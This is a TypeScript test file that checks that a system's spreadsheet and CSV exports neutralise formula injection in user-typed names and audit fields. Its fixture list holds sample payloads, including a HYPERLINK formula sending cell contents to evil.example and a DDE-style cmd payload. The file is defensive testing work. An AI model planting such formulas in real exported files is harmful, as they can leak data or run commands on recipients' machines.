import { describe, it, expect, beforeEach, afterEach } from 'vitest';
import yauzl from 'yauzl';
import { createTestDb } from '../../factories/db';
import { buildWorld } from '../../factories/world';
import { buildExport } from '../../../src/lib/exchange/exports';
import { writeAudit } from '../../../src/lib/audit/audit';
import { auditCsvStream, auditXlsx, AUDIT_COLUMNS, type ExportLabels } from '../../../src/lib/audit/export';
import { tableXlsx } from '../../../src/lib/dashboard/tables';
import { readTable } from '../../../src/lib/exchange/table';
import { parseCsv } from '../../../src/lib/exchange/csv';
import type { Db } from '../../../db/client';

/**
 * Formula injection through the exports (issue 10, ADR 0020): text a person typed (a name, a note) that
 * begins with = + - @ must never become a formula in a file we hand out. XLSX exports write every text as
 * a typed string cell (t="s": a spreadsheet shows it, never runs it) and contain no formula at all; CSV
 * has no types, so the audit CSV prefixes such cells with an apostrophe.
 */
const HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"点击")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(1,2)'];

let t: ReturnType<typeof createTestDb>;
let db: Db;
let w: Awaited<ReturnType<typeof buildWorld>>;
beforeEach(async () => {
  t = createTestDb();
  db = t.db;
  w = await buildWorld(db);
});
afterEach(() => t.cleanup());

/** Every part of an .xlsx, as text. */
async function parts(buf: Buffer): Promise<Map<string, string>> {
  const zip = await yauzl.fromBufferPromise(buf, { lazyEntries: true });
  const out = new Map<string, string>();
  for await (const e of zip.eachEntry()) {
    const s = await zip.openReadStreamPromise(e);
    const chunks: Buffer[] = [];
    for await (const c of s) chunks.push(c as Buffer);
    out.set(e.fileName, Buffer.concat(chunks).toString('utf8'));
  }
  zip.close();
  return out;
}

const unescape = (s: string) => s.replace(/&lt;/g, '<').replace(/&gt;/g, '>').replace(/&quot;/g, '"').replace(/&apos;/g, "'").replace(/&amp;/g, '&');

/** No formula anywhere; each hostile text is there verbatim as a shared (typed) string. */
async function expectDefused(buf: Buffer, texts: string[]): Promise<void> {
  const p = await parts(buf);
  const sheets = [...p.entries()].filter(([n]) => n.startsWith('xl/worksheets/sheet'));
  expect(sheets.length).toBeGreaterThan(0);
  for (const [name, xml] of sheets) expect(xml, name).not.toMatch(/<f[\s>/]/);
  const sst = p.get('xl/sharedStrings.xml') ?? '';
  const strings = [...sst.matchAll(/<t(?:\s[^>]*)?>([^<]*)<\/t>/g)].map((m) => unescape(m[1]!));
  for (const s of texts) expect(strings, s).toContain(s);
}

describe('exports never turn typed text into formulas', () => {
  it('people, training and certificates exports: hostile names are typed strings, no formula in any sheet', async () => {
    const admin = w.person('admin', w.province, '管理员');
    for (const name of HOSTILE) w.person('director', w.cgVillage, name);
    const out = await buildExport(db, { userId: admin, role: 'admin', scopePath: w.province.path }, 'people');
    await expectDefused(out!.buffer, HOSTILE);
    // read back by our own importer, which refuses any formula: the names come back as the text typed
    const table = await readTable(out!.buffer, 'people.xlsx');
    expect(table.rows.flatMap((r) => r.cells)).toEqual(expect.arrayContaining(HOSTILE));
    for (const kind of ['training', 'certificates', 'worklog'] as const) {
      const x = await buildExport(db, { userId: admin, role: 'admin', scopePath: w.province.path }, kind);
      await expectDefused(x!.buffer, []);
    }
  });

  it('the audit export: XLSX cells are typed strings; CSV cells that would run are prefixed with an apostrophe', async () => {
    const actor = w.person('official', w.zhushan, HOSTILE[0]);
    for (const [i, s] of HOSTILE.entries()) writeAudit(db, { actorUserId: actor, action: 'user.update', entityType: 'user', entityId: s, regionPath: w.cgVillage.path, at: 1000 + i });
    const labels: ExportLabels = { header: Object.fromEntries(AUDIT_COLUMNS.map((c) => [c, c])) as ExportLabels['header'], action: (a) => a, time: (ms) => String(ms) };
    const x = await auditXlsx(db, { userId: actor, regionPath: w.zhushan.path }, { scopePath: w.zhushan.path }, labels);
    await expectDefused(x.buffer, HOSTILE);
    const csv = new TextDecoder().decode(await new Response(auditCsvStream(db, { userId: actor, regionPath: w.zhushan.path }, { scopePath: w.zhushan.path }, labels)).arrayBuffer());
    const rows = parseCsv(csv).slice(1);
    expect(rows.length).toBeGreaterThanOrEqual(HOSTILE.length);
    for (const row of rows) for (const cell of row) expect(cell, row.join(',')).not.toMatch(/^[=+\-@\t\r]/);
    expect(csv).toContain(`'-2+3`);
    expect(csv).toContain(`'@SUM(1`);
  });

  it('the dashboard tables (review/export.xlsx): hostile text is a typed string', async () => {
    const buf = await tableXlsx({ key: 'children', title: '表', columns: [{ label: '区划' }, { label: '数', numeric: true }], rows: HOSTILE.map((s, i) => ({ cells: [s, i] })) }, w.zhushan, '2026-11-29');
    await expectDefused(buf, HOSTILE);
  });
});
